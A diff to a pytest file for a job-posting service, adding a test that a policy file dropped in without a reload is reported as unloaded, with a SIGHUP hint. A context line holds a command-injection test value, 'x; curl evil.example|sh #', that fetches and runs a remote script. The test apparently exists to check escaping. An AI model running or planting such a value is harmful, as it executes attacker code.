@@ -190,6 +190,23 @@ def test_a_broken_policy_file_refuses_its_channel_only(rig: Rig) -> None:
     assert rig.post("/v1/jobs", job("r1")).status_code == 201
 
 
+def test_a_policy_file_added_since_the_last_reload_is_named_as_not_loaded(rig: Rig) -> None:
+    # A tired operator drops in a sound file and forgets the reload: "no policy file for
+    # channel 'alerts'" sent them to a folder where that file plainly is.
+    (rig.root / "policies" / "alerts.toml").write_text(
+        'provider = "support"\nfrom = "Support <support@example.com>"\n'
+        'message_id_domain = "mail.example.com"\n'
+    )
+    refused = rig.post("/v1/jobs", job("a1", channel="alerts"))
+    assert refused.status_code == 422
+    assert refused.json()["errors"][0]["field"] == "channel"
+    error = refused.json()["error"]
+    assert "no policy file" not in error
+    assert "'alerts'" in error and "added since the policies were loaded" in error
+    assert "SIGHUP" in error
+    assert rig.post("/v1/jobs", job("r1")).status_code == 201
+
+
 @pytest.mark.parametrize("key", ["victim-job --as resend #", "x; curl evil.example|sh #"])
 def test_the_page_quotes_commands_and_escapes_a_callers_text(rig: Rig, key: str) -> None:
     # A detail written by an older release, before bidi controls were refused.
